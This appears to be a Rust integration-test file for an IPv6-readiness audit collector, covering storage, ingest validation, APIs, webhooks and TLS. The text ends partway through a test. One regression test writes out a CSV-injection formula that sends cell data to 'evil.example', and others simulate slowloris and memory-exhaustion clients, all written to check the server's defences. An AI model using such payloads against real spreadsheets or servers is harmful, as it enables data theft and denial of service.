//! The collector against both storage backends: every storage test and
//! every API test runs on SQLite and on PostgreSQL. PostgreSQL is a real
//! server (`scripts/test.sh` starts one and sets V6AUDIT_TEST_POSTGRES_URL);
//! without it those runs are skipped, unless V6AUDIT_REQUIRE_POSTGRES is set.

// A test that cannot unwrap should fail loudly, not handle the error.
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[macro_use]
mod support;

use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use support::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use v6audit_collector::config::hash_token;
use v6audit_collector::store::{NewReport, NewResult, Storage, StoredVerdict};

/// A push the collector must refuse, and how.
struct Refused {
    token: Option<String>,
    body: Vec<u8>,
    gzip: bool,
    status: u16,
    error: &'static str,
    field: Option<&'static str>,
    message: &'static str,
}

/// A result of `portal` at `observed_ms` with `stage`, as ingest receives it.
fn new_result(portal: &str, observed_ms: i64, stage: u8) -> NewResult {
    NewResult {
        id: uuid::Uuid::now_v7().to_string(),
        portal_id: portal.into(),
        observed_ms,
        portal: "{}".into(),
        observation: "{}".into(),
        verdict: StoredVerdict {
            stage: v6audit_model::Stage::try_from(stage).unwrap(),
            stage_certain: true,
            score: 50,
            priority: 1,
            findings: "[]".into(),
            pack: "lab/1".into(),
        },
    }
}

fn result_of<'a>(report: &'a Value, portal: &str) -> &'a Value {
    report["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["portal"]["id"].as_str().unwrap().starts_with(portal))
        .unwrap()
}

battery! {
    agents_and_tokens => |db: Db| async move {
        let s = store(&db).await;
        s.create_agent("hanoi-1", Some("VNPT Hà Nội"), &hash_token("t1"), 1).await.unwrap();
        let again = s.create_agent("hanoi-1", None, &hash_token("t2"), 2).await.unwrap_err();
        assert_eq!(again.to_string(), "an agent named `hanoi-1` exists already");
        let a = s.agent_for_token(&hash_token("t1")).await.unwrap().unwrap();
        assert_eq!((a.name.as_str(), a.vantage.as_deref(), a.revoked_ms), ("hanoi-1", Some("VNPT Hà Nội"), None));
        assert!(s.agent_for_token(&hash_token("nope")).await.unwrap().is_none());
        assert!(s.revoke_agent("hanoi-1", 5).await.unwrap());
        assert!(!s.revoke_agent("nobody", 5).await.unwrap());
        assert_eq!(s.agent_for_token(&hash_token("t1")).await.unwrap().unwrap().revoked_ms, Some(5));
        assert_eq!(s.agents().await.unwrap().len(), 1);
    };

    the_same_report_twice_stores_each_result_once => |db: Db| async move {
        let c = Running::start(&db, |_| {}).await;
        let token = c.token("hanoi-1").await;
        let body = serde_json::to_vec(&lab_report()).unwrap();
        let (status, first) = c.push(Some(&token), body.clone(), false).await;
        assert_eq!(status, 200, "{first}");
        assert_eq!((first["stored"].as_u64(), first["duplicates"].as_u64()), (Some(18), Some(0)));
        // Again, compressed this time: nothing new.
        let (status, second) = c.push(Some(&token), gzip(&body), true).await;
        assert_eq!(status, 200, "{second}");
        assert_eq!((second["stored"].as_u64(), second["duplicates"].as_u64()), (Some(0), Some(18)));
        assert_eq!(c.results().await, 18);
        c.stop().await;
    };

    ingest_errors_name_the_problem_and_store_nothing => |db: Db| async move {
        let c = Running::start(&db, |cfg| {
            cfg.body_limit = 1 << 20;
            cfg.reports_per_minute = 1;
            cfg.burst = 6;
        })
        .await;
        let token = c.token("hanoi-1").await;
        let good = serde_json::to_vec(&lab_report()).unwrap();
        let t = Some(token.clone());
        let cases = [
            Refused { token: None, body: good.clone(), gzip: false, status: 401, error: "unauthorized", field: None, message: "missing `Authorization: Bearer TOKEN`" },
            Refused { token: Some("v6a_unknown".into()), body: good.clone(), gzip: false, status: 401, error: "unauthorized", field: None, message: "unknown token" },
            Refused { token: t.clone(), body: vec![b' '; 2 << 20], gzip: false, status: 413, error: "too_large", field: None, message: "larger than the limit of 1 MiB" },
            Refused { token: t.clone(), body: gzip(&vec![b' '; 3 << 20]), gzip: true, status: 413, error: "too_large", field: None, message: "decompressed body is larger" },
            Refused { token: t.clone(), body: b"{\"schema\": ".to_vec(), gzip: false, status: 400, error: "malformed_json", field: None, message: "the body is not JSON" },
            Refused {
                token: t.clone(),
                body: br#"{"schema": "v6audit/report/v9", "results": []}"#.to_vec(),
                gzip: false,
                status: 400,
                error: "unknown_schema",
                field: Some("schema"),
                message: "unknown report schema `v6audit/report/v9`",
            },
        ];
        for case in cases {
            let (got, answer) = c.push(case.token.as_deref(), case.body, case.gzip).await;
            assert_eq!(got, case.status, "{answer}");
            assert_eq!(answer["error"], case.error, "{answer}");
            assert_eq!(answer["field"].as_str(), case.field, "{answer}");
            assert!(answer["message"].as_str().unwrap().contains(case.message), "{answer}");
        }
        // A result that fails validation names its field.
        let mut bad = lab_report();
        bad["results"][3]["portal"]["url"] = json!("ftp://files.gov.vn/");
        let (_, answer) = c.push(Some(&token), serde_json::to_vec(&bad).unwrap(), false).await;
        assert_eq!(answer["field"], "results[3].portal.url", "{answer}");
        assert_eq!(answer["message"], "`ftp://files.gov.vn/` is not an http(s) URL");
        let mut bad = lab_report();
        bad["results"][2]["observation"]["dns"]["aaaa"]["outcome"] = json!("maybe");
        let (status, answer) = c.push(Some(&token), serde_json::to_vec(&bad).unwrap(), false).await;
        assert_eq!(status, 400);
        assert_eq!(answer["field"], "results[2].observation.dns.aaaa.outcome", "{answer}");
        // Nothing of all that was stored.
        assert_eq!(c.results().await, 0);
        // A revoked token is refused.
        c.state.store.revoke_agent("hanoi-1", 1).await.unwrap();
        let (status, answer) = c.push(Some(&token), good.clone(), false).await;
        assert_eq!(status, 401);
        assert_eq!(answer["message"], "the token of agent `hanoi-1` was revoked");
        // Rate: the burst is spent (8 attempts above with this token), so the next is 429.
        let other = c.token("hcm-1").await;
        let mut last = 0;
        for _ in 0..8 {
            last = c.push(Some(&other), b"{}".to_vec(), false).await.0;
        }
        assert_eq!(last, 429);
        assert_eq!(c.results().await, 0);
        c.stop().await;
    };

    views_answer_stages_progress_priorities_and_changes => |db: Db| async move {
        let c = Running::start(&db, |_| {}).await;
        let token = c.token("hanoi-1").await;
        let report = lab_report();
        assert_eq!(c.push(Some(&token), serde_json::to_vec(&report).unwrap(), false).await.0, 200);
        let (status, portals) = c.get("/api/v1/portals").await;
        assert_eq!(status, 200);
        let stage_of = |id: &str| {
            portals["portals"].as_array().unwrap().iter().find(|p| p["id"].as_str().unwrap().starts_with(id)).unwrap()["combined"]["stage"].clone()
        };
        // The collector's own (lab) pack gives the scenarios' stages.
        assert_eq!(stage_of("good-"), json!(4));
        assert_eq!(stage_of("v6-refused-"), json!(1));
        assert_eq!(stage_of("ipv4-only-"), json!(0));
        assert_eq!(stage_of("mail-v4-only-"), json!(3));
        let good = portals["portals"].as_array().unwrap().iter().find(|p| p["id"] == "good-0001").unwrap();
        assert_eq!(good["combined"]["summary"], "reachable over IPv6 from 1 of 1 vantages");
        assert_eq!(good["vantages"][0]["vantage"], "VNPT Hà Nội");

        // A later run where good-0001 lost IPv6: a change, a regression webhook kind, a history.
        let mut later = rerun(&report, 60);
        let refused = result_of(&report, "v6-refused-")["observation"].clone();
        let mut obs = refused.clone();
        obs["started_at"] = result_of(&later, "good-")["observation"]["started_at"].clone();
        obs["host"] = json!("good-0001.lab.test");
        for x in later["results"].as_array_mut().unwrap() {
            if x["portal"]["id"] == "good-0001" {
                x["observation"] = obs.clone();
            }
        }
        assert_eq!(c.push(Some(&token), serde_json::to_vec(&later).unwrap(), false).await.0, 200);
        let (_, changes) = c.get("/api/v1/changes").await;
        let lost: Vec<&Value> = changes["changes"].as_array().unwrap().iter().filter(|e| e["portal"] == "good-0001").collect();
        assert!(lost.iter().any(|e| e["kind"] == "lost_ipv6" && e["from_stage"] == 4 && e["to_stage"] == 1), "{changes}");
        assert!(lost.iter().any(|e| e["kind"] == "rule_regressed" && e["rule"] == "web.v6-reachable"), "{changes}");
        let (_, history) = c.get("/api/v1/portals/good-0001/history").await;
        let stages: Vec<i64> = history["history"].as_array().unwrap().iter().map(|h| h["stage"].as_i64().unwrap()).collect();
        assert_eq!(stages, [4, 1]);
        // Priorities: broken portals first.
        let (_, prio) = c.get("/api/v1/priorities").await;
        let first = &prio["priorities"][0];
        assert_eq!(first["combined"]["stage"], 1, "{prio}");
        // Detail in Vietnamese.
        let (_, detail) = c.get("/api/v1/portals/good-0001?lang=vi").await;
        let findings = detail["vantages"][0]["findings"].as_array().unwrap();
        assert!(findings.iter().any(|f| f["message"].as_str().unwrap().contains("không nhận kết nối TCP")), "{detail}");
        // Progress: today's counts per stage cover every portal of the inventory.
        let (status, progress) = c.get("/api/v1/progress?group=category").await;
        assert_eq!(status, 200, "{progress}");
        let total: u64 = progress["series"].as_array().unwrap().iter().map(|s| {
            let last = s["points"].as_array().unwrap().last().unwrap()["stages"].as_object().unwrap().clone();
            last.values().map(|v| v.as_u64().unwrap()).sum::<u64>()
        }).sum();
        assert_eq!(total, 18);
        let (status, bad) = c.get("/api/v1/progress?from=2026-13-01").await;
        assert_eq!((status, bad["field"].as_str()), (400, Some("from")));
        // Ranking, with its method; campaigns; CSV; metrics; OpenAPI.
        let (_, ranking) = c.get("/api/v1/ranking").await;
        assert!(ranking["method"].as_str().unwrap().starts_with("Readiness index"));
        assert_eq!(ranking["ranking"][0]["rank"], 1);
        assert_eq!(ranking["ranking"].as_array().unwrap().len(), 4);
        let (status, csv) = c.get("/api/v1/export.csv").await;
        assert_eq!(status, 200);
        assert!(csv.as_str().unwrap().starts_with("id,url,name,agency,category,stage"));
        let (_, metrics) = c.get("/metrics").await;
        let m = metrics.as_str().unwrap();
        assert!(m.contains("v6audit_ingest_results_total{outcome=\"stored\"} 36"), "{m}");
        assert!(m.contains("v6audit_agent_last_report_timestamp_seconds{agent=\"hanoi-1\",vantage=\"VNPT Hà Nội\"}"), "{m}");
        let (status, ready) = c.get("/readyz").await;
        assert_eq!((status, ready["ready"].as_bool()), (200, Some(true)));
        // Re-scoring with the default pack (::1 is not global there) makes good portals broken.
        c.state.pack.write().unwrap().clone_from(&Arc::new(v6audit_rules::Pack::default_pack()));
        let n = v6audit_collector::rescore(&c.state.store, &c.state.pack(), &c.state.catalog(), 25_200).await.unwrap();
        assert_eq!(n, 36);
        let (_, after) = c.get("/api/v1/portals/cname-0002").await;
        assert_eq!(after["combined"]["stage"], 1, "{after}");
        c.stop().await;
    };

    every_route_in_the_openapi_document_answers_as_documented => |db: Db| async move {
        let c = Running::start(&db, |_| {}).await;
        let token = c.token("hanoi-1").await;
        assert_eq!(c.push(Some(&token), serde_json::to_vec(&lab_report()).unwrap(), false).await.0, 200);
        let doc: Value = serde_json::from_str(v6audit_collector::api::OPENAPI).unwrap();
        let paths = doc["paths"].as_object().unwrap();
        assert!(paths.len() >= 17, "{} paths", paths.len());
        for (path, ops) in paths {
            let url = format!("{}{}", c.base, path.replace("{id}", "good-0001").replace("{name}", "lab"));
            for (method, op) in ops.as_object().unwrap() {
                let m = reqwest::Method::from_bytes(method.to_ascii_uppercase().as_bytes()).unwrap();
                // With an agent's token and no body: each route answers with
                // one of the statuses its operation documents, never with
                // the router's 404 or 405 (a route the document invents).
                let r = c.client.request(m, &url).bearer_auth(&token).send().await.unwrap();
                let status = r.status().as_u16().to_string();
                let documented: Vec<&String> = op["responses"].as_object().unwrap().keys().collect();
                assert!(
                    documented.iter().any(|k| **k == status),
                    "{method} {path} answered {status}, documented: {documented:?}"
                );
                assert!(status != "405", "{method} {path}: no such route");
            }
        }
        c.stop().await;
    };

    inventories_and_campaigns => |db: Db| async move {
        let c = Running::start(&db, |_| {}).await;
        let agent = c.token("hanoi-1").await;
        // Agents fetch the collector's inventory with their token.
        let r = c.client.get(format!("{}/api/v1/inventory", c.base)).bearer_auth(&agent).send().await.unwrap();
        assert_eq!(r.status(), 200);
        let inv = v6audit_model::Inventory::parse(&r.text().await.unwrap(), "collector").unwrap();
        assert_eq!(inv.portals.len(), 18);
        // The admin uploads an inventory with a campaign.
        let upload = "schema: v6audit/inventory/v1\nportals:\n  - id: dichvucong\n    url: https://dichvucong.gov.vn/\n    category: citizen\ncampaigns:\n  - id: citizen-2026\n    target_stage: 3\n    deadline: 2026-12-31\n    select: {categories: [citizen]}\n";
        let put = |token: &str, body: &str| c.client.put(format!("{}/api/v1/inventories/ministry", c.base)).bearer_auth(token).body(body.to_owned()).send();
        assert_eq!(put(&agent, upload).await.unwrap().status(), 401);
        let bad = put("admin-secret", "schema: v6audit/inventory/v1\nportals:\n  - id: Bad\n    url: x\n").await.unwrap();
        assert_eq!(bad.status(), 400);
        let answer: Value = bad.json().await.unwrap();
        assert!(answer["message"].as_str().unwrap().contains("uploaded:ministry:3:9: portals[0].id: invalid id `Bad`"), "{answer}");
        assert!(c.state.store.inventories().await.unwrap().is_empty(), "an invalid inventory is not stored");
        let ok = put("admin-secret", upload).await.unwrap();
        assert_eq!(ok.status(), 200);
        let (_, campaigns) = c.get("/api/v1/campaigns").await;
        let campaign = campaigns["campaigns"].as_array().unwrap().iter().find(|x| x["id"] == "citizen-2026").unwrap();
        // Six citizen portals in the lab inventory, plus dichvucong; none measured yet.
        assert_eq!(campaign["portals"], 7);
        assert_eq!(campaign["share"], 0.0);
        assert_eq!(campaign["deadline"], "2026-12-31");
        c.stop().await;
    };

    // Regression: export.csv passed a name or an agency that starts with `=`,
    // `+`, `-`, `@` or a tab as a live formula (OWASP "CSV injection"); a
    // spreadsheet now shows the text, marked as text by a leading `'`.
    csv_cell_starting_with_equals_is_not_a_formula => |db: Db| async move {
        let c = Running::start(&db, |_| {}).await;
        let upload = concat!(
            "schema: v6audit/inventory/v1\nportals:\n",
            "  - id: formula\n    url: https://formula.gov.vn/\n    category: citizen\n",
            "    name: '=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")'\n",
            "    agency: '@SUM(A1:A9)'\n",
            "  - id: minus\n    url: https://minus.gov.vn/\n    category: business\n",
            "    name: '-1+1'\n    agency: \"\\t=1+1\"\n",
        );
        let put = c.client.put(format!("{}/api/v1/inventories/ministry", c.base)).bearer_auth("admin-secret").body(upload).send().await.unwrap();
        let status = put.status();
        let answer = put.text().await.unwrap();
        assert_eq!(status, 200, "{answer}");
        let (status, csv) = c.get("/api/v1/export.csv").await;
        assert_eq!(status, 200);
        let csv = csv.as_str().unwrap();
        let row = |id: &str| csv.split("\r\n").find(|l| l.starts_with(&format!("{id},"))).unwrap_or_else(|| panic!("no row {id}:\n{csv}")).to_owned();
        assert!(
            row("formula").starts_with("formula,https://formula.gov.vn/,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'@SUM(A1:A9),citizen,"),
            "{csv}"
        );
        assert!(row("minus").starts_with("minus,https://minus.gov.vn/,'-1+1,\"'\t=1+1\",business,"), "{csv}");
        c.stop().await;
    };

    a_stored_stage_that_is_none_is_refused_as_read_naming_the_column => |db: Db| async move {
        // A stage is a typed Stage all the way to the database, so the
        // collector cannot write one that is none. A number written behind
        // its back (another program, a hand edit) is refused as it is read,
        // naming the column, instead of being shown as some stage.
        let s = store(&db).await;
        s.create_agent("hanoi-1", None, &hash_token("t"), 0).await.unwrap();
        let report = NewReport { id: "r0".into(), agent: "hanoi-1".into(), received_ms: 1, generated_ms: 1 };
        let derive = &v6audit_collector::ingest::derive_events;
        s.ingest(&report, &[new_result("p-0001", 1_000, 2)], derive, 0).await.unwrap();
        assert_eq!(s.latest().await.unwrap()[0].stage, v6audit_model::Stage::Reachable);
        execute(&db, "UPDATE latest SET stage = 7").await;
        let err = s.latest().await.unwrap_err().to_string();
        assert!(err.contains("\"stage\"") && err.contains("stage must be 0 to 4, not 7"), "{err}");
        // What else is stored reads as before.
        assert_eq!(s.counts().await.unwrap().results, 1);
    };

    ingest_of_6000_tied_results_is_linear => |db: Db| async move {
        // Regression: the previous verdict was looked up once per result,
        // sorting every result of the portal at the same time, so a report of
        // 6,000 results of one portal at one time took 72 s while other
        // agents were locked out. Now it is one read per portal.
        let s = store(&db).await;
        s.create_agent("hanoi-1", None, &hash_token("t"), 0).await.unwrap();
        let result = |observed_ms: i64, stage: u8| new_result("tied-0001", observed_ms, stage);
        let report = |id: &str| NewReport { id: id.into(), agent: "hanoi-1".into(), received_ms: 1, generated_ms: 1 };
        let derive = &v6audit_collector::ingest::derive_events;
        // An earlier run saw the portal at stage 4.
        s.ingest(&report("r0"), &[result(1_000, 4)], derive, 0).await.unwrap();
        // Then 6,000 results at one later time, all at stage 1.
        let tied: Vec<NewResult> = (0..6000).map(|_| result(2_000, 1)).collect();
        let started = Instant::now();
        let done = tokio::time::timeout(Duration::from_secs(120), s.ingest(&report("r1"), &tied, derive, 0))
            .await
            .expect("the ingest did not finish within 120 s")
            .unwrap();
        let took = started.elapsed();
        assert_eq!((done.stored, done.duplicates), (6000, 0));
        assert!(took < Duration::from_secs(30), "6,000 tied results took {took:?}");
        // One change: the first of them (by id) follows the stage-4 run; each
        // other follows one of them, at the same stage.
        let first = tied.iter().map(|r| r.id.as_str()).min().unwrap();
        assert_eq!(done.events.len(), 1, "{:?}", done.events);
        assert_eq!((done.events[0].kind.as_str(), done.events[0].result_id.as_str()), ("lost_ipv6", first));
        assert_eq!(s.counts().await.unwrap().results, 6001);
        let latest = s.latest().await.unwrap();
        assert_eq!(latest.len(), 1);
        assert_eq!(latest[0].result_id, tied.iter().map(|r| r.id.as_str()).max().unwrap());
    };

    ten_megabyte_portal_name_is_refused_naming_the_field => |db: Db| async move {
        // Regression: a 10 MB portal name was stored; /portals became 66 MB
        // and /metrics 5 MB. Every string is held to its field's limit.
        let c = Running::start(&db, |_| {}).await;
        let token = c.token("hanoi-1").await;
        let cases = [
            ("/results/0/portal/name", json!("x".repeat(10_000_000)), "results[0].portal.name", "the limit is 512"),
            ("/results/1/portal/agency", json!("Bộ ".repeat(200)), "results[1].portal.agency", "the limit is 512"),
            ("/results/2/portal/tags", json!(vec!["t"; 65]), "results[2].portal.tags", "the limit is 64"),
            ("/results/3/portal/tags", json!(["t".repeat(65)]), "results[3].portal.tags[0]", "the limit is 64"),
            ("/results/4/portal/url", json!(format!("https://x.gov.vn/{}", "a".repeat(2100))), "results[4].portal.url", "the limit is 2048"),
            ("/results/5/verdict/findings/0/message", json!("m".repeat(70_000)), "results[5].verdict.findings[0].message", "the limit is 65536"),
            ("/agent/id", json!("a".repeat(70_000)), "agent.id", "the limit is 65536"),
        ];
        for (pointer, value, field, message) in cases {
            let mut report = lab_report();
            // The field is set whether or not the fixture has it.
            let mut at = &mut report;
            for step in pointer.split('/').skip(1) {
                at = match step.parse::<usize>() {
                    Ok(i) => &mut at[i],
                    Err(_) => &mut at[step],
                };
            }
            *at = value;
            let (status, answer) = c.push(Some(&token), serde_json::to_vec(&report).unwrap(), false).await;
            assert_eq!(status, 400, "{answer}");
            assert_eq!(answer["field"], field, "{answer}");
            assert!(answer["message"].as_str().unwrap().contains(message), "{answer}");
        }
        assert_eq!(c.results().await, 0, "nothing of a refused report is stored");
        c.stop().await;
    };

    a_long_agency_is_cut_short_in_metrics => |db: Db| async move {
        // Regression: the agency is a label of /metrics, written whole.
        let c = Running::start(&db, |_| {}).await;
        let token = c.token("hanoi-1").await;
        let mut report = lab_report();
        // A portal the inventory does not know: the agent's description is shown.
        report["results"][0]["portal"]["id"] = json!("unknown-0001");
        report["results"][0]["portal"]["agency"] = json!("A".repeat(500));
        let (status, answer) = c.push(Some(&token), serde_json::to_vec(&report).unwrap(), false).await;
        assert_eq!(status, 200, "{answer}");
        let (_, metrics) = c.get("/metrics").await;
        let m = metrics.as_str().unwrap();
        let max = v6audit_collector::metrics::MAX_LABEL_BYTES;
        assert!(m.contains(&format!("agency=\"{}…\"", "A".repeat(max))), "{m}");
        assert!(!m.contains(&"A".repeat(max + 1)), "{m}");
        c.stop().await;
    };

    every_429_carries_retry_after => |db: Db| async move {
        // Regression: a 429 said "retry later" without saying when.
        let c = Running::start(&db, |cfg| {
            cfg.reports_per_minute = 1;
            cfg.burst = 1;
        })
        .await;
        let token = c.token("hanoi-1").await;
        let url = format!("{}/api/v1/reports", c.base);
        // The first push spends the burst (and is refused for its body).
        let first = c.client.post(&url).bearer_auth(&token).body("{}").send().await.unwrap();
        assert_eq!(first.status(), 400);
        let r = c.client.post(&url).bearer_auth(&token).body("{}").send().await.unwrap();
        assert_eq!(r.status(), 429);
        let wait: u64 = r.headers()["retry-after"].to_str().unwrap().parse().unwrap();
        assert!((1..=60).contains(&wait), "Retry-After: {wait}");
        c.stop().await;
    };
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_regression_is_posted_to_the_webhook_retried_until_it_is_taken() {
    use axum::routing::post;
    // A receiver that refuses the first delivery, then takes the rest.
    let (tx, mut rx) = tokio::sync::mpsc::channel::<Value>(16);
    let tries = Arc::new(AtomicU32::new(0));
    let t = tries.clone();
    let app = axum::Router::new().route(
        "/hook",
        post(move |axum::Json(body): axum::Json<Value>| {
            let (tx, t) = (tx.clone(), t.clone());
            async move {
                if t.fetch_add(1, Ordering::SeqCst) == 0 {
                    return axum::http::StatusCode::SERVICE_UNAVAILABLE;
                }
                let _ = tx.send(body).await;
                axum::http::StatusCode::OK
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("[::1]:0").await.unwrap();
    let hook = format!("http://{}/hook", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

    let db = database("sqlite").await.unwrap();
    let c = Running::start(&db, |cfg| {
        cfg.webhooks = vec![v6audit_collector::config::Webhook {
            url: url::Url::parse(&hook).unwrap(),
            events: vec!["lost_ipv6".into()],
        }];
    })
    .await;
    let token = c.token("hanoi-1").await;
    let report = lab_report();
    assert_eq!(
        c.push(Some(&token), serde_json::to_vec(&report).unwrap(), false)
            .await
            .0,
        200
    );
    let mut later = rerun(&report, 60);
    let mut obs = result_of(&report, "v6-refused-")["observation"].clone();
    obs["started_at"] = result_of(&later, "good-")["observation"]["started_at"].clone();
    for x in later["results"].as_array_mut().unwrap() {
        if x["portal"]["id"] == "good-0001" {
            x["observation"] = obs.clone();
        }
    }
    assert_eq!(
        c.push(Some(&token), serde_json::to_vec(&later).unwrap(), false)
            .await
            .0,
        200
    );
    let got = tokio::time::timeout(std::time::Duration::from_secs(20), rx.recv())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(got["event"], "lost_ipv6");
    assert_eq!(got["portal"], "good-0001");
    assert_eq!(
        (got["from_stage"].as_i64(), got["to_stage"].as_i64()),
        (Some(4), Some(1))
    );
    assert_eq!(got["to_stage_name"], "broken");
    assert_eq!(
        tries.load(Ordering::SeqCst),
        2,
        "one refusal, then the retry"
    );
    c.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_collector_serves_https_when_given_a_certificate() {
    let dir = tempfile::tempdir().unwrap();
    let key = rcgen::KeyPair::generate().unwrap();
    let params =
        rcgen::CertificateParams::new(vec!["localhost".to_owned(), "::1".to_owned()]).unwrap();
    let cert = params.self_signed(&key).unwrap();
    let (cert_path, key_path) = (dir.path().join("c.pem"), dir.path().join("k.pem"));
    std::fs::write(&cert_path, cert.pem()).unwrap();
    std::fs::write(&key_path, key.serialize_pem()).unwrap();
    let db = database("sqlite").await.unwrap();
    let c = Running::start(&db, |cfg| {
        cfg.tls = Some((cert_path.clone(), key_path.clone()))
    })
    .await;
    let https = c.base.replace("http://", "https://");
    let client = reqwest::Client::builder()
        .add_root_certificate(reqwest::Certificate::from_pem(cert.pem().as_bytes()).unwrap())
        .build()
        .unwrap();
    let r = client.get(format!("{https}/healthz")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.text().await.unwrap(), "ok\n");
    // Plain HTTP on the TLS port gets nothing.
    assert!(reqwest::get(format!("{}/healthz", c.base)).await.is_err());
    c.stop().await;
}

// ---------------------------------------------------------------------------
// The collector under hostile clients (issue 13, items 12 to 16 and 18).
// Each test is named after what broke, on loopback, and bounded in time.

/// The collector's `[::1]:port`.
fn addr(c: &Running) -> String {
    c.base.trim_start_matches("http://").to_owned()
}

/// Waits (at most 20 s) until `done` holds.
async fn eventually(what: &str, mut done: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while !done() {
        assert!(Instant::now() < deadline, "{what}: not within 20 s");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Reads what the collector sends until it closes the connection: what it
/// sent, or None if it was still open after `within`.
async fn read_until_closed(conn: &mut TcpStream, within: Duration) -> Option<Vec<u8>> {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    tokio::time::timeout(within, async {
        loop {
            match conn.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => got.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await
    .ok()?;
    Some(got)
}

/// Reads one whole answer to a `GET /healthz` (its body is `ok\n`).
async fn read_healthz(conn: &mut TcpStream) -> String {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while !String::from_utf8_lossy(&got).ends_with("\r\n\r\nok\n") {
        let n = conn.read(&mut buf).await.unwrap();
        assert!(
            n > 0,
            "closed before the answer: {}",
            String::from_utf8_lossy(&got)
        );
        got.extend_from_slice(&buf[..n]);
    }
    String::from_utf8(got).unwrap()
}

const HEALTHZ: &[u8] = b"GET /healthz HTTP/1.1\r\nHost: collector\r\n\r\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refused_upload_is_drained_not_buffered() {
    // Regression: a 401 or 429 still read the whole body (up to 16 MiB) into
    // memory, and nothing capped the bodies read at once; 100 unauthenticated
    // uploads took the collector to 2.3 GB. Now refused bodies are read and
    // thrown away, and the bodies being read share a budget.
    let db = database("sqlite").await.unwrap();
    let c = Running::start(&db, |cfg| {
        cfg.body_limit = 1 << 20;
        cfg.body_budget = (1 << 20) + (256 << 10);
        cfg.reports_per_minute = 600;
        cfg.burst = 100;
    })
    .await;
    let token = c.token("hanoi-1").await;
    let full = c.state.bodies.available();
    // An upload that declares 1,000,000 bytes and sends a tenth of them: the
    // collector holds the memory it declared.
    let mut slow = TcpStream::connect(addr(&c)).await.unwrap();
    let head = format!(
        "POST /api/v1/reports HTTP/1.1\r\nHost: collector\r\nAuthorization: Bearer {token}\r\n\
         Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"
    );
    slow.write_all(head.as_bytes()).await.unwrap();
    slow.write_all(&vec![b' '; 100_000]).await.unwrap();
    eventually("the slow upload's memory is taken", || {
        c.state.bodies.available() <= full - 1_000_000
    })
    .await;
    // A body the rest of the budget cannot hold: 503, with Retry-After.
    let url = format!("{}/api/v1/reports", c.base);
    let r = c
        .client
        .post(&url)
        .bearer_auth(&token)
        .body(vec![b' '; 500_000])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 503);
    assert!(r.headers().contains_key("retry-after"), "{:?}", r.headers());
    let answer: Value = r.json().await.unwrap();
    assert_eq!(answer["error"], "busy", "{answer}");
    // Unauthenticated uploads as large as the limit, eight at once, while
    // the budget is all but spent: each is answered 401, none takes memory.
    let refused = (0..8).map(|_| c.push(None, vec![b' '; 1 << 20], false));
    for (status, answer) in futures_util::future::join_all(refused).await {
        assert_eq!(status, 401, "{answer}");
    }
    assert_eq!(c.state.bodies.available(), full - 1_000_000);
    // The slow upload goes away; its memory comes back, and a report is taken.
    drop(slow);
    eventually("the slow upload's memory is given back", || {
        c.state.bodies.available() == full
    })
    .await;
    let (status, answer) = c
        .push(
            Some(&token),
            serde_json::to_vec(&lab_report()).unwrap(),
            false,
        )
        .await;
    assert_eq!(status, 200, "{answer}");
    c.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_locked_database_answers_503_with_retry_after_and_no_internal_text() {
    // Regression: while a large report held SQLite's write lock, other
    // agents got HTTP 500 with "database is locked", the internal error text,
    // in the answer. A busy database is a 503 with Retry-After, and a
    // generic message; the details go to the log.
    use sqlx::Connection as _;
    let db = database("sqlite").await.unwrap();
    let c = Running::start(&db, |_| {}).await;
    let token = c.token("hanoi-1").await;
    let body = serde_json::to_vec(&lab_report()).unwrap();
    // Another writer holds the write lock (the store waits 10 s for it).
    let mut locker = sqlx::SqliteConnection::connect(&db.url).await.unwrap();
    sqlx::query("BEGIN IMMEDIATE")
        .execute(&mut locker)
        .await
        .unwrap();
    let r = tokio::time::timeout(
        Duration::from_secs(60),
        c.client
            .post(format!("{}/api/v1/reports", c.base))
            .bearer_auth(&token)
            .body(body.clone())
            .send(),
    )
    .await
    .expect("answered within 60 s")
    .unwrap();
    assert_eq!(r.status(), 503);
    let wait: u64 = r.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(wait >= 1);
    let answer: Value = r.json().await.unwrap();
    assert_eq!(answer["error"], "busy", "{answer}");
    let text = answer.to_string();
    assert!(
        !text.contains("locked") && !text.contains("code"),
        "internal error text in the answer: {text}"
    );
    assert_eq!(c.results().await, 0);
    // Once the lock is released, the same report is stored.
    sqlx::query("ROLLBACK").execute(&mut locker).await.unwrap();
    let (status, answer) = c.push(Some(&token), body, false).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(c.results().await, 18);
    c.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slowloris_connection_is_closed_after_header_timeout() {
    // Regression: 200 connections sending their request head a byte at a
    // time were never closed.
    let db = database("sqlite").await.unwrap();
    let c = Running::start(&db, |cfg| cfg.header_timeout = Duration::from_secs(1)).await;
    let mut conn = TcpStream::connect(addr(&c)).await.unwrap();
    conn.write_all(b"GET /healthz HTTP/1.1\r\nHost: collector\r\n")
        .await
        .unwrap();
    // A byte every 200 ms, for at most 10 s: the collector must close first.
